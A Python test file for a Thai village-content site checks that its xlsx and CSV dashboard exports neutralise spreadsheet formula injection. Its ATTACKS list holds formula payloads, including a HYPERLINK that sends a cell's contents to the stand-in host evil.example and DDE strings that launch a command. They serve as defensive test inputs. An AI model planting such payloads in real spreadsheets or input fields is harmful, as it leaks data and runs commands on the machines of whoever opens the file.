"""Every cell we write into an .xlsx or CSV is data, never a formula (issue 22, item 1)."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from cdd_click import cells, stats
from cdd_click.extensions import db
from cdd_click.models import Village
from tests.admin_helpers import build_site, edit_data, login

ATTACKS = ['=HYPERLINK("http://evil.example/?d="&A3,"ดูรายงาน")', "+cmd|' /c calc'!A0", "-2+3",
           "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("text", ATTACKS)
def test_a_cell_that_could_start_a_formula_is_neutralised(text):
    assert cells.neutralise(text) == "'" + text
    assert cells.neutralise("ผ้าไหม =1") == "ผ้าไหม =1"
    assert cells.neutralise(-2) == -2 and cells.neutralise(3.5) == 3.5


def _cells_of_xlsx(data: bytes) -> list:
    book = load_workbook(io.BytesIO(data))
    return [cell for row in book.active.iter_rows() for cell in row]


def _searched(app, queries: list[str]) -> None:
    visitor = app.test_client()
    for query in queries:
        visitor.get("/search", query_string={"q": query})
    stats.flush()


def test_dashboard_downloads_hold_no_formula(app, content_tree):
    build_site(content_tree)
    _searched(app, ATTACKS[:4] * 2)
    admin = app.test_client()
    login(admin, "admin@cdd.go.th")
    for table in ("queries_week", "zero_week"):
        xlsx = admin.get(f"/admin/dashboard/{table}.xlsx")
        assert xlsx.status_code == 200
        found = _cells_of_xlsx(xlsx.data)
        assert not [c.value for c in found if c.data_type == "f"], table
        texts = [c.value for c in found if isinstance(c.value, str)]
        assert "'" + ATTACKS[0].casefold() in texts, texts  # the query is there, as text
        assert not [t for t in texts if cells.looks_like_formula(t)], texts
        text = admin.get(f"/admin/dashboard/{table}.csv").data.decode("utf-8-sig")
        rows = list(csv.reader(io.StringIO(text)))
        first = [row[0] for row in rows[1:]]
        assert "'" + ATTACKS[1].casefold() in first and "'-2+3" in first, first
        assert not [value for row in rows for value in row if cells.looks_like_formula(value)]


def test_a_title_cannot_start_like_a_formula(app, content_tree):
    build_site(content_tree)
    editor = app.test_client()
    login(editor, "cm@cdd.go.th")
    village = db.session.scalar(select(Village).where(Village.slug == "ban-test"))
    url = f"/admin/villages/{village.id}/edit"
    response = editor.post(url, data=edit_data(editor, url, title='=HYPERLINK("x","บ้าน")'))
    assert response.status_code == 200  # the form again, with the message
    assert "โปรแกรมตารางจะอ่านเป็นสูตร" in response.get_data(as_text=True)
    db.session.expire_all()
    assert db.session.get(Village, village.id).title == "บ้านทดสอบ"


def test_views_export_writes_a_stored_formula_title_as_text(app, content_tree):
    build_site(content_tree)
    village = db.session.scalar(select(Village).where(Village.slug == "ban-test"))
    village.title = '=HYPERLINK("http://evil.example","บ้าน")'  # stored before the input rule
    db.session.commit()
    app.test_client().get("/villages/ban-test")
    stats.flush()
    admin = app.test_client()
    login(admin, "admin@cdd.go.th")
    found = _cells_of_xlsx(admin.get("/admin/dashboard/views.xlsx").data)
    assert not [c for c in found if c.data_type == "f"]
    assert "'" + village.title in [c.value for c in found]
